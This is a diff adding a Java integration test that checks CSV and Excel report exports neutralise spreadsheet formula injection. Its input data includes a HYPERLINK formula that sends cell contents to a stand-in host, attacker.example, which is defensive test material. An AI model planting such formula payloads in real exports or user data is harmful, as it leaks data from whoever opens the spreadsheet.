@@ -10,13 +10,18 @@ import static org.jcmflow.testsupport.DemoUser.VERIFIER;
 
 import java.io.ByteArrayInputStream;
 import java.io.IOException;
+import java.net.URLEncoder;
 import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.MappingIterator;
+import com.fasterxml.jackson.dataformat.csv.CsvMapper;
+import com.fasterxml.jackson.dataformat.csv.CsvSchema;
 import org.apache.poi.ss.usermodel.Cell;
 import org.apache.poi.ss.usermodel.CellType;
 import org.apache.poi.ss.usermodel.Row;
@@ -134,6 +139,45 @@ class DashboardExportIT {
                 assertThat(number(row, 3)).isCloseTo(stage.path("medianDays").asDouble(), within(0.02));
                 assertThat(number(row, 4)).isCloseTo(stage.path("p90Days").asDouble(), within(0.02));
             }
+        }
+    }
+
+    @Test
+    void textThatASpreadsheetWouldRunIsExportedAsTextNotAFormula() throws IOException {
+        Map<String, Object> proposal = CaseDriver.newCase("=HYPERLINK(\"http://attacker.example/?\"&A1,\"report\")");
+        proposal.put("technology", "@SUM(1+1)");
+        String caseId = driver.openCase(PROPONENT, proposal);
+
+        HttpResponse<byte[]> export = driver.as(PROGRAM_MANAGER).download("/api/reports/cases.csv");
+        assertThat(export.statusCode()).isEqualTo(200);
+        String csv = new String(export.body(), StandardCharsets.UTF_8).substring(1);
+        Map<String, String> row;
+        try (MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
+                .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
+            row = rows.readAll().stream().filter(found -> found.get("id").equals(caseId)).findFirst().orElseThrow();
+        }
+        assertThat(row.get("title")).isEqualTo("'=HYPERLINK(\"http://attacker.example/?\"&A1,\"report\")");
+        assertThat(row.get("technology")).isEqualTo("'@SUM(1+1)");
+        // numbers stay numbers, and text that runs nothing is as it was
+        assertThat(row.get("estimatedReductionTco2PerYear")).isEqualTo("1250.5");
+        assertThat(row.get("partnerCountry")).isEqualTo("VN");
+
+        // the spreadsheet writes text cells only: a filter that looks like a formula is shown, never run
+        String formula = "=HYPERLINK(\"http://attacker.example/\",\"x\")";
+        HttpResponse<byte[]> download = driver.as(PROGRAM_MANAGER).download("/api/reports/dashboard.xlsx?partnerCountry="
+                + URLEncoder.encode(formula, StandardCharsets.UTF_8));
+        assertThat(download.statusCode()).isEqualTo(200);
+        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(download.body()))) {
+            for (Sheet sheet : workbook) {
+                for (Row sheetRow : sheet) {
+                    for (Cell cell : sheetRow) {
+                        assertThat(cell.getCellType()).as(sheet.getSheetName() + " " + cell.getAddress())
+                                .isIn(CellType.STRING, CellType.NUMERIC, CellType.BLANK);
+                    }
+                }
+            }
+            Cell filter = rowsByFirstCell(workbook.getSheet("Summary")).get("Partner country").getCell(1);
+            assertThat(filter.getStringCellValue()).isEqualTo(formula);
         }
     }
 
